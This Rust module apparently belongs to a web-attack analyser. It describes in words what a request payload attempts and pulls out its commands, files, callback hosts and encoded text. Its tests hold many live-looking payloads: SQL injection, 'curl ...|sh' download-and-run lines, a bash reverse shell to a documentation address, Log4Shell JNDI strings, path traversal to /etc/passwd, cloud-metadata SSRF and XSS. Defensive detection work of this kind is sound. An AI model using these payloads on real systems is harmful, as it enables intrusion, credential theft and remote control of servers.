//! What a payload tries, in words for an analyst, and what it names: commands, files, hosts to call back to, text that it
//! hides in base64 or hexadecimal.
//!
//! Asked only of what is shown to people: findings and `explain`. No verdict rests on it, and all of it is text that an
//! attacker chose: a host named here was not contacted, and may be anybody's.

mod finder;
mod hidden;
mod names;
mod traces;

use super::class::{Class, ClassSet};
use super::normalise::{Form, Normaliser};
use super::values::{self, Field, Value};
use super::views;
use std::collections::BTreeSet;

/// Cap on what is kept of each kind, entries: a reader looks at no more.
const MAX_ENTRIES: usize = 16;

/// What a request tries.
#[derive(Clone, PartialEq, Eq, Default, Debug)]
pub struct Attempt {
    /// `read table names`, ``run `id` ``, `call back to 203.0.113.9`: each once, in the order of their values.
    pub names: Vec<String>,
    /// Commands of a shell, as decoded.
    pub commands: BTreeSet<String>,
    /// Files of the server.
    pub files: BTreeSet<String>,
    /// Public hosts, names and addresses without port, that are to be called.
    pub hosts: BTreeSet<String>,
    /// What base64 and hexadecimal inside the payload say.
    pub hidden: BTreeSet<String>,
}

impl Attempt {
    /// What a request with attacks of these classes tries, by its target and user agent.
    pub fn of_request(target: &[u8], user_agent: &[u8], classes: ClassSet) -> Self {
        let mut attempt = Self::default();
        let end = memchr::memchr(b'?', target).unwrap_or(target.len());
        let query = target.get(end + 1..).unwrap_or_default();
        // What an ordinary agent never has.
        let is_odd = user_agent.iter().any(|b| b"$<{|`'\"".contains(b));
        let user_agent = if is_odd { user_agent } else { b"" };
        for (field, text) in
            [(Field::Path, &target[..end]), (Field::Query, query), (Field::UserAgent, user_agent)]
        {
            values::visit(field, text, &mut |value| {
                if !is_plain(&value) {
                    attempt.add(&value, classes);
                }
            });
        }
        attempt
    }

    /// Adds what one value tries.
    pub(super) fn add(&mut self, value: &Value<'_>, classes: ClassSet) {
        // Old PHP ends a file's name at a NUL, which decoding drops.
        let is_file = classes.contains(Class::Lfi);
        let end = if is_file { memchr::memmem::find(value.text, b"%00") } else { None };
        let text = Text::decode(&value.text[..end.unwrap_or(value.text.len())], value.form);
        let hidden = hidden::texts(&text);
        for text in std::iter::once(&text).chain(&hidden) {
            let mut seen = traces::Seen::of(text, value.key, classes);
            names::names(text, &seen, classes).into_iter().for_each(|name| self.name(name));
            keep(&mut self.commands, &mut seen.commands);
            keep(&mut self.files, &mut seen.files);
            keep(&mut self.hosts, &mut seen.hosts);
        }
        keep(&mut self.hidden, &mut hidden.iter().map(|t| traces::clip(&t.shown)).collect());
    }

    fn name(&mut self, name: String) {
        if self.names.len() < MAX_ENTRIES && !self.names.contains(&name) {
            self.names.push(name);
        }
    }

    /// The same for several requests together.
    pub fn join(&mut self, mut other: Self) {
        std::mem::take(&mut other.names).into_iter().for_each(|name| self.name(name));
        keep(&mut self.commands, &mut other.commands.into_iter().collect());
        keep(&mut self.files, &mut other.files.into_iter().collect());
        keep(&mut self.hosts, &mut other.hosts.into_iter().collect());
        keep(&mut self.hidden, &mut other.hidden.into_iter().collect());
    }
}

/// A short word, which says nothing but where it is known that something is run.
fn is_plain(value: &Value<'_>) -> bool {
    const MAX_WORD: usize = 12;
    let is_word = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_');
    value.text.len() < MAX_WORD && value.text.iter().all(is_word) && !traces::is_argument(value.key)
}

/// What is said of an attack whose payload shows no more than its class: `break out of a SQL statement`.
pub fn name_of_class(class: Class) -> &'static str {
    names::of_class(class)
}

/// `reads table names` for `read table names`.
pub fn third_person(name: &str) -> String {
    let (verb, rest) = name.split_once(' ').unwrap_or((name, ""));
    match verb {
        "have" => format!("has {rest}"),
        "guess" => format!("guesses {rest}"),
        _ => format!("{verb}s {rest}"),
    }
}

fn keep(all: &mut BTreeSet<String>, more: &mut Vec<String>) {
    for text in more.drain(..) {
        if all.len() < MAX_ENTRIES {
            all.insert(text);
        }
    }
}

/// A decoded value as it is shown and as it is searched.
struct Text {
    /// In the case in which it was sent.
    shown: Vec<u8>,
    /// The same in lower case: byte for byte as long.
    lower: Vec<u8>,
}

impl Text {
    fn decode(text: &[u8], form: Form) -> Self {
        let mut normaliser = Normaliser::default();
        normaliser.decode(text, form);
        Self::new(normaliser.text().to_vec())
    }

    fn new(shown: Vec<u8>) -> Self {
        let lower = shown.to_ascii_lowercase();
        Self { shown, lower }
    }

    /// As a shell reads it.
    fn shell(&self) -> Self {
        Self::new(views::as_shell(&self.shown))
    }

    /// As a database reads it, blanks single.
    fn sql(&self) -> Vec<u8> {
        let mut text = views::as_sql(&self.lower);
        text.dedup_by(|a, b| *a == b' ' && *b == b' ');
        text
    }
}

fn has(text: &[u8], part: &str) -> bool {
    memchr::memmem::find(text, part.as_bytes()).is_some()
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn of(target: &str, classes: &[Class]) -> Attempt {
        let classes = classes.iter().fold(ClassSet::EMPTY, |set, c| set.with(*c));
        Attempt::of_request(target.as_bytes(), b"Mozilla/5.0", classes)
    }

    fn check(class: Class, query: &str, want: &[&str]) {
        assert_eq!(of(&format!("/p?q={query}"), &[class]).names, want, "{query}");
    }

    #[test]
    fn databases() {
        use Class::{Nosqli, Sqli};
        check(Sqli, "1+union+select+table_name+from+information_schema.tables", &["read table names"]);
        check(Sqli, "1/**/UNION/**/SELECT/**/login,pass/**/FROM/**/members", &["read rows of `members`"]);
        check(Sqli, "1;WAITFOR DELAY '0:0:7'--", &["ask the database to wait 7 s"]);
        check(Sqli, "1 and sleep(5)%23", &["ask the database to wait 5 s"]);
        check(Sqli, "1' or '1'='1", &["make a condition always true"]);
        check(Sqli, "5 order by 12--", &["count the columns of a query"]);
        check(
            Sqli,
            "1 and ascii(substr((select user()),1,1))>64",
            &["read the database's user", "guess data one character at a time"],
        );
        check(Sqli, "1;EXEC xp_cmdshell('dir c:')", &["run `dir c:`", "run a command through the database"]);
        check(Nosqli, "{\"$where\":\"sleep(1)\"}", &["run script in the database"]);
    }

    #[test]
    fn commands_and_code() {
        use Class::{Cmdi, CodeInjection, Shellshock, Ssi, Ssti};
        check(Cmdi, "; cat /etc/passwd", &["run `cat /etc/passwd`"]);
        check(Cmdi, "x|c'a't${IFS}/Etc/x", &["run `cat /Etc/x`"]);
        check(Cmdi, "$(curl http://198.51.100.7/X|sh)", &["download http://198.51.100.7/X", "run `sh`"]);
        check(Cmdi, ";bash -i >%26 /dev/tcp/203.0.113.9/4444 0>%261", &["open a shell to 203.0.113.9"]);
        check(
            Cmdi,
            "echo aWQ7dW5hbWUgLWE7aWQ= | base64 -d | sh",
            &["run `echo aWQ7dW5hbWUgLWE7aWQ=`", "run `base64 -d`", "run `sh`", "run `id`", "run `uname -a`"],
        );
        check(CodeInjection, "system('id');", &["run `id`"]);
        check(CodeInjection, "phpinfo()", &["show the set-up of PHP"]);
        check(Shellshock, "() { :;}; /bin/bash -c 'id'", &["run `/bin/bash -c id`"]);
        check(Ssi, "<!--%23exec cmd=\"id\" -->", &["run `id`"]);
        check(Ssti, "{{7*7}}", &["test whether templates are evaluated"]);
        let by_key =
            of("/i.php?s=/index/think%5Capp/invokefunction&vars[0]=system&vars[1][]=id", &[Class::Cve]);
        assert_eq!(by_key.names, ["run `id`"]);
    }

    #[test]
    fn files_and_hosts() {
        use Class::{Crlf, Jndi, Lfi, OpenRedirect, Rfi, Ssrf, Xss, Xxe};
        check(Lfi, "..%2f..%2f..%2fetc/passwd%00.png", &["read /etc/passwd"]);
        check(Lfi, "..\\..\\windows\\win.ini", &["read windows/win.ini"]);
        check(Lfi, "php://filter/convert.base64-encode/resource=config.php", &["read config.php"]);
        check(Rfi, "http://Evil.example/c99.txt", &["run a script from evil.example"]);
        check(Jndi, "${${lower:j}ndi:${::-l}dap://203.0.113.9:1389/a}", &["call back to 203.0.113.9"]);
        check(Xxe, "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hosts\">]>", &["read /etc/hosts"]);
        check(Ssrf, "http://169.254.169.254/latest/meta-data/", &["read the cloud's credentials"]);
        check(Ssrf, "http://127.0.0.1:6379/", &["make the server call 127.0.0.1"]);
        check(Xss, "<script src=//x.example/a.js></script>", &["load a script from x.example"]);
        check(Xss, "<img src=x onerror=alert(1)>", &["show a box in a visitor's browser"]);
        check(OpenRedirect, "//evil.example/login", &["send visitors to evil.example"]);
        check(Crlf, "x%0d%0aSet-Cookie: a=b", &["add the header set-cookie"]);
        assert_eq!(of("/.%2e/.%2e/etc/passwd", &[Lfi]).names, ["read /etc/passwd"]);
    }

    #[test]
    fn what_is_called_is_public_and_well_formed() {
        let check = |query: &str, want: &[&str]| {
            let got = of(&format!("/p?q={query}"), &[Class::Jndi]).hosts;
            assert_eq!(got.into_iter().collect::<Vec<_>>(), want, "{query}");
        };
        check("${jndi:ldap://203.0.113.9/a}", &["203.0.113.9"]);
        check("${jndi:ldap://[2001:db8::1]:1389/a}", &["2001:db8::1"]);
        check("${jndi:dns://${hostName}.C1.oast.me/a}", &["c1.oast.me"]);
        check("${jndi:ldap://127.0.0.1%23evil.example/a}", &[]);
        check("${jndi:ldap://user@evil.example:99/a}", &["evil.example"]);
        check("${jndi:ldap://localhost/a}", &[]);
        check("${jndi:ldap://10.0.0.1/a}", &[]);
        check("${jndi:ldap://a..b/%1b[2J}", &[]);
        check("${jndi:ldap://evil.1/a}", &[]);
    }

    #[test]
    fn hidden_text_is_read() {
        let check = |query: &str, want: &[&str]| {
            let got = of(&format!("/p?q={query}"), &[Class::Cmdi]).hidden;
            assert_eq!(got.into_iter().collect::<Vec<_>>(), want, "{query}");
        };
        check("Y2F0IC9ldGMvcGFzc3dk", &["cat /etc/passwd"]);
        check("powershell -enc dwBoAG8AYQBtAGkA", &["whoami"]);
        check("1 and x=0x61646d696e6973", &["adminis"]);
        check("echo 6361742066696c65 | xxd -r -p", &["cat file"]);
        check("concat(char(47,101,116,99),1)", &["/etc"]);
        check("chr(105).chr(100).chr(59)", &["id;"]);
        check("d41d8cd98f00b204e9800998ecf8427e", &[]);
        check("a-simple-product-name", &[]);
    }

    proptest! {
        #[test]
        fn any_bytes_are_read_and_what_is_shown_is_short_and_safe(
            text in proptest::collection::vec(
                prop_oneof![any::<u8>(), prop::sample::select(b"${}:/.;|&()'\"<>%0aj\\ =".to_vec())], 0..200),
            word in prop::sample::select(vec!["", "${jndi:ldap://", ";curl http://", "../../", "system('", "char(", "0x", "//"]),
        ) {
            let target = [b"/a?q=", word.as_bytes(), &text].concat();
            let classes = Class::ALL.into_iter().fold(ClassSet::EMPTY, ClassSet::with);
            let got = Attempt::of_request(&target, &text, classes);
            let all = got.names.iter().chain(&got.commands).chain(&got.files).chain(&got.hosts).chain(&got.hidden);
            for text in all {
                prop_assert!(text.chars().count() <= 280 && !text.chars().any(char::is_control), "{text:?}");
            }
        }
    }

    #[test]
    fn names_are_said_in_both_ways() {
        assert_eq!(third_person("read table names"), "reads table names");
        assert_eq!(third_person(name_of_class(Class::Ssti)), "has a template evaluated");
    }
}
